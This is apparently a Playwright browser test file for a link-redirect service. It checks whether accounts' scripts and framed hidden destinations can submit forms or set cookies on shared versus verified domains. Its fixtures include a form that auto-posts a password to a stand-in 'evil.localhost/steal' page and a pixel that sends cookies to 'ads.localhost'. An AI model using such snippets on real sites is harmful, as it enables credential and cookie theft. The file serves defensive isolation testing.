"""What an account's script or hidden destination can do in real Chromium, by the host of the link."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page

from tests.browser.product import Product
from tests.browser.servers import Pages

MAKE = """
import json, sys, django
django.setup()
from accounts.custom_domains.services import host_provision
from accounts.models import Account
from links.services.domains import domain_create
from links.services.account_settings import script_write
from links.models import Domain
from links.services.links import datapoint_create
before, destination, script = json.loads(sys.argv[1])
account = Account.objects.get()
own = Domain.objects.filter(name="own.localhost").first()
if own is None:
    own = domain_create(account=account, name="own.localhost")
    host_provision(account=account, host="own.localhost", purpose="links")
snippet = script_write(account=account, name="s", text=script)
for domain, name in ((None, "shared"), (own, "own")):
    common = {"account": account, "domain": domain}
    datapoint_create(**common, alias=before + name + "-script", url=destination, scripts=[snippet])
    datapoint_create(**common, alias=before + name + "-frame", url=destination + "-form", hide_url=True)
"""
FORM = "<form method='post' action='{steal}'><input name='password' value='secret'></form>"
SENT = "document.forms[0].submit()"


@pytest.fixture(scope="module")
def product() -> Iterator[Product]:
    fresh = Product()
    fresh.settings["LINK_DOMAIN"] = f"go.localhost:{fresh.port}"
    fresh.start()
    yield fresh
    fresh.remove()


@pytest.fixture
def stolen(product: Product, pages: Pages) -> list[str]:
    """What forms sent to the stranger's page. Links with a script and a frame that send one lie on both domains."""
    form = FORM.format(steal=pages.url("/steal", "evil.localhost"))
    script = f"document.body.insertAdjacentHTML('beforeend', {json.dumps(form)}); {SENT}"
    pages.html["/landing"] = "<title>Landing</title>"
    pages.html["/landing-form"] = f"<title>Form</title>{form}<script>{SENT}</script>"
    pages.html["/steal"] = "<title>Thank you</title>"
    seen: list[str] = []

    def noted(method: str, path: str, query: str, headers: object) -> None:
        if path == "/steal":
            seen.append(method)

    pages.upstream = noted
    product.provision("shop.localhost")
    product.command("-c", MAKE, json.dumps(["", pages.url("/landing", "shop.localhost"), script]))
    return seen


def test_a_hidden_destination_can_send_forms_only_on_a_verified_domain(
    page: Page, product: Product, pages: Pages, stolen: list[str]
) -> None:
    page.wait_for_timeout(2500)
    shared = f"http://go.localhost:{product.port}"
    page.goto(f"{shared}/shared-script")
    page.wait_for_url("**/landing*")
    assert stolen == []
    page.goto(f"{shared}/shared-frame")
    page.wait_for_timeout(1000)
    assert page.frames[1].title() == "Form" and page.url == f"{shared}/shared-frame" and stolen == []
    page.goto(f"{product.url}/l/shared-script")  # on the dashboard's host: a plain redirect
    assert "/landing" in page.url and stolen == []
    page.goto(f"{product.url}/l/shared-frame")
    page.wait_for_url("**/steal*")  # the stranger's page itself, under its own name
    assert f":{product.port}" not in page.url
    stolen.clear()
    for alias in ("own-script", "own-frame"):
        page.goto(f"http://own.localhost:{product.port}/{alias}")
        page.wait_for_timeout(1500)
    assert stolen == ["POST", "POST"]


PIXEL = """
window.fbq = {{}};
document.cookie = '_fbp=fb.1; path=/; max-age=7776000';
localStorage.setItem('seen', 1); sessionStorage.setItem('seen', localStorage.getItem('seen'));
new Image().src = '{tr}?c=' + encodeURIComponent(document.cookie) + '&s=' + sessionStorage.getItem('seen');
"""


def test_a_script_that_sets_a_cookie_reports_the_visit_on_every_link_domain(
    page: Page, product: Product, pages: Pages
) -> None:
    pages.html["/landing"] = "<title>Landing</title>"
    pages.html["/fbevents.js"] = PIXEL.format(tr=pages.url("/tr", "ads.localhost"))
    reported: list[str] = []

    def noted(method: str, path: str, query: str, headers: object) -> None:
        if path == "/tr":
            reported.append(query)

    pages.upstream = noted
    product.provision("shop.localhost")
    load = "var s = document.createElement('script'); s.async = true; s.src = '{}'; document.head.appendChild(s)"
    words = ["r-", pages.url("/landing", "shop.localhost"), load.format(pages.url("/fbevents.js", "ads.localhost"))]
    product.command("-c", MAKE, json.dumps(words))
    page.wait_for_timeout(2500)
    for host, alias, kept in (("go", "r-shared-script", False), ("own", "r-own-script", True)):
        page.goto(f"http://{host}.localhost:{product.port}/{alias}")
        page.wait_for_url("**/landing*")
        cookies = page.context.cookies(f"http://{host}.localhost:{product.port}/")
        assert any(one.get("name") == "_fbp" for one in cookies) is kept
    assert reported == ["c=_fbp%3Dfb.1&s=1"] * 2
